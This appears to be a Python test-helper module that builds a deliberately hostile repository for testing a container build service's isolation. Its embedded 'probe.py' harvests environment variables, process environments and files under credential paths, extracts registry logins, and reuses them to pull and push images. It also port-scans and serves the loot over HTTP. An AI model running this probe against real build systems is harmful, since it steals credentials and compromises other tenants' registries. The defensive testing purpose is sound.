"""A repository that wants what is not its own: in its Dockerfile it prints everything it can read, and uses it.

RUN python3 /probe.py     each thing it finds or tries is a line of its log, LOOT and JSON, and a part of its image
"""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any, Final

from product import Files

MARK: Final = "LOOT "
OUTSIDE: Final = "by-the-test"
"""A tag in its own repository: a probe that found a login waits for it."""
SERVES: Final = 'CMD ["python3", "-m", "http.server", "--directory", "/loot", "8080"]\n'
DOCKERFILE: Final = (
    "FROM python:3-slim\nCOPY probe.py targets.json /probe/\nRUN python3 /probe/probe.py\nEXPOSE 8080\n" + SERVES
)
PROBE: Final = r'''
import base64, gzip, hashlib, io, json, os, pathlib, socket, stat, tarfile, time
import urllib.error, urllib.parse, urllib.request

TARGETS = json.load(open("/probe/targets.json"))
REGISTRY = "http://" + TARGETS["registry"] + "/v2"
FOUND = []


def loot(kind, name, what):
    FOUND.append({"kind": kind, "name": name, "what": what})
    print("LOOT " + json.dumps(FOUND[-1]), flush=True)


# What can be read


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read(10_000).decode("latin-1")
    except OSError as error:
        return None


def files():
    mounted = [line.split()[1] for line in open("/proc/self/mounts")]
    skipped = ("/proc", "/sys", "/dev", "/etc/ssl", "/usr", "/lib")
    places = ["/kaniko", "/credentials", "/workspace", "/out", "/root", "/home", "/run", "/var/run", "/tmp", "/srv"]
    places += [place for place in mounted if place != "/" and not place.startswith(skipped)]
    for place in dict.fromkeys(places):
        if os.path.isfile(place):
            yield place
        for folder, _, names in os.walk(place):
            for name in names:
                yield os.path.join(folder, name)


def is_text(path):
    try:
        found = os.stat(path)
    except OSError:
        return False
    return stat.S_ISREG(found.st_mode) and found.st_size < 100_000


loot("environment", "self", dict(os.environ))
for process in sorted(pathlib.Path("/proc").glob("[0-9]*")):
    for name in ("environ", "cmdline"):
        content = read(process / name)
        if content:
            loot("process", str(process / name), content)
for path in dict.fromkeys(files()):
    if is_text(path) and not path.startswith("/workspace/source/") and (content := read(path)):
        loot("file", path, content)
for path in ("/dev/termination-log", "/workspace/source/.git/config", "/workspace/git/config", "/root/.gitconfig"):
    if content := read(path):
        loot("file", path, content)


# What can be asked


def http(method, url, headers=None, body=None):
    request = urllib.request.Request(url, method=method, data=body, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()
    except OSError as error:
        return type(error).__name__, {}, b""


def token(login, *scopes):
    headers = {"authorization": "Basic " + login} if login else {}
    query = [("service", TARGETS["registry"]), *(("scope", scope) for scope in scopes)]
    status, _, body = http("GET", TARGETS["realm"] + "?" + urllib.parse.urlencode(query), headers)
    return json.loads(body)["token"] if status == 200 else None


def registry(method, path, login, scopes, body=None, kind="application/octet-stream"):
    given = token(login, *scopes)
    headers = {"content-type": kind, "accept": TARGETS["kinds"]}
    if given:
        headers["authorization"] = "Bearer " + given
    return http(method, path if path.startswith("http") else REGISTRY + "/" + path, headers, body)


def digest(content):
    return "sha256:" + hashlib.sha256(content).hexdigest()


def push(repository, tag, login):
    """The status of the manifest's PUT, or of the first request that was refused."""
    tar = io.BytesIO()
    tarfile.open(fileobj=tar, mode="w").close()
    layer = gzip.compress(tar.getvalue())
    layers = {"type": "layers", "diff_ids": [digest(tar.getvalue())]}
    config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": layers}).encode()
    scopes, described = ["repository:" + repository + ":pull,push"], []
    for content in (config, layer):
        status, headers, _ = registry("POST", repository + "/blobs/uploads/", login, scopes)
        if status != 202:
            return status
        place = headers["location"] + "&digest=" + urllib.parse.quote(digest(content))
        status, _, _ = registry("PUT", place, login, scopes, content)
        if status != 201:
            return status
        described.append({"digest": digest(content), "size": len(content)})
    described[0]["mediaType"] = "application/vnd.oci.image.config.v1+json"
    described[1]["mediaType"] = "application/vnd.oci.image.layer.v1.tar+gzip"
    kind = "application/vnd.oci.image.manifest.v1+json"
    manifest = {"schemaVersion": 2, "mediaType": kind, "config": described[0], "layers": described[1:]}
    return registry("PUT", repository + "/manifests/" + tag, login, scopes, json.dumps(manifest).encode(), kind)[0]


def logins():
    """Everything that is base64 of a login, wherever it was found."""
    for found in FOUND:
        try:
            for entry in json.loads(found["what"])["auths"].values():
                yield entry["auth"]
        except (TypeError, ValueError, KeyError, AttributeError):
            pass


def knock(host, port):
    try:
        socket.create_connection((host, port), timeout=3).close()
        return "open"
    except OSError as error:
        return type(error).__name__


for target in TARGETS["knock"]:
    host, _, port = target.rpartition(":")
    loot("knock", target, knock(host, int(port)))
for url in TARGETS["get"]:
    loot("get", url, http("GET", url)[0])
known = list(dict.fromkeys(logins()))
for who, login in [("nobody", None), *((f"login {n}", login) for n, login in enumerate(known))]:
    own = TARGETS["own"]
    loot("catalog", who, registry("GET", "_catalog", login, ["registry:catalog:*"])[0])
    for repository, tag in TARGETS["pull"]:
        scopes = ["repository:" + repository + ":pull"]
        loot("pull", who + " " + repository, registry("GET", repository + "/manifests/" + tag, login, scopes)[0])
    for repository, blob in TARGETS["mount"]:
        scopes = ["repository:" + own + ":pull,push", "repository:" + repository + ":pull"]
        path = own + "/blobs/uploads/?" + urllib.parse.urlencode({"mount": blob, "from": repository})
        loot("mount", who + " " + repository, registry("POST", path, login, scopes)[0])
    for repository, tag in TARGETS["push"]:
        loot("push", who + " " + repository + ":" + tag, push(repository, tag, login))
loot("end", "logins", len(known))
ends = time.monotonic() + 90
while known and time.monotonic() < ends:
    scopes = ["repository:" + own + ":pull"]
    if registry("GET", own + "/manifests/" + TARGETS["outside"], known[0], scopes)[0] == 200:
        loot("end", "told from outside", True)
        break
    time.sleep(0.5)
os.makedirs("/loot", exist_ok=True)
json.dump(FOUND, open("/loot/index.json", "w"))
'''


def files(folder: str, targets: Mapping[str, Any]) -> Files:
    """The component in `folder`, whose Dockerfile does all that."""
    return {
        f"{folder}/Dockerfile": DOCKERFILE,
        f"{folder}/probe.py": PROBE,
        f"{folder}/targets.json": json.dumps(targets, indent=1),
    }


@dataclass(frozen=True)
class Loot:
    """What a probe found, by kind and name."""

    found: tuple[Mapping[str, Any], ...]

    @classmethod
    def of(cls, log: str) -> Loot:
        """From the log of its build, whose last line may not be whole yet."""
        whole = log[: log.rfind("\n") + 1].split("\n")
        return cls(tuple(json.loads(line.removeprefix(MARK)) for line in whole if line.startswith(MARK)))

    def __getitem__(self, kind: str) -> dict[str, Any]:
        return {each["name"]: each["what"] for each in self.found if each["kind"] == kind}

    @property
    def is_whole(self) -> bool:
        """It tried everything."""
        return "logins" in self["end"]

    @property
    def text(self) -> str:
        """All of it, as it would be searched for secrets."""
        return "\n".join(f"{each['name']}\n{each['what']}" for each in self.found)
